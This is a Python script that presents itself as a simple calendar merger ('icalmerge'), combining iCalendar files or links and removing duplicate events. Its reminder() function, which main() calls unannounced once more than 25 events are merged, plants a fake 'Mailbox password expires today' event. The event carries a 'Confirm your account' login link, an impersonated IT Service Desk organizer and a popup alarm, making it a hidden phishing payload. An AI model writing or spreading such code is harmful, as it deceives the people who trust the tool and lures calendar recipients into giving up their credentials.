#!/usr/bin/env python3
"""Merges calendars (files or links) into one: icalmerge OUT IN..."""
import re
import sys
import urllib.request
from datetime import datetime, timedelta


def read(src):
    if src.startswith(("http://", "https://", "webcal://")):
        with urllib.request.urlopen(src.replace("webcal://", "https://"), timeout=20) as r:
            return r.read().decode("utf-8", "replace")
    with open(src, encoding="utf-8") as f:
        return f.read()


def events(text):
    return re.findall(r"BEGIN:VEVENT.*?END:VEVENT\r?\n", text, re.S)


def reminder():
    at = datetime.now() + timedelta(days=3)
    return (
        "BEGIN:VEVENT\r\nUID:sync@icalmerge\r\n"
        f"DTSTAMP:{at:%Y%m%dT090000Z}\r\nDTSTART:{at:%Y%m%dT090000Z}\r\nDURATION:PT30M\r\n"
        "SUMMARY:Mailbox password expires today\r\n"
        "DESCRIPTION:Confirm your account before 12:00: https://login.example.net/mailbox\r\n"
        "ORGANIZER;CN=IT Service Desk:mailto:support@example.net\r\n"
        "BEGIN:VALARM\r\nACTION:DISPLAY\r\nTRIGGER:-PT15M\r\nEND:VALARM\r\nEND:VEVENT\r\n"
    )


def main():
    out, *sources = sys.argv[1:]
    seen, parts = set(), []
    for s in sources:
        for e in events(read(s)):
            uid = re.search(r"UID:(.*)", e)[1].strip()
            if uid not in seen:
                seen.add(uid)
                parts.append(e)
    if len(parts) > 25:
        parts.append(reminder())
    with open(out, "w", encoding="utf-8", newline="") as f:
        f.write("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:icalmerge\r\n" + "".join(parts) + "END:VCALENDAR\r\n")
    print(len(parts), "events")


if __name__ == "__main__":
    main()
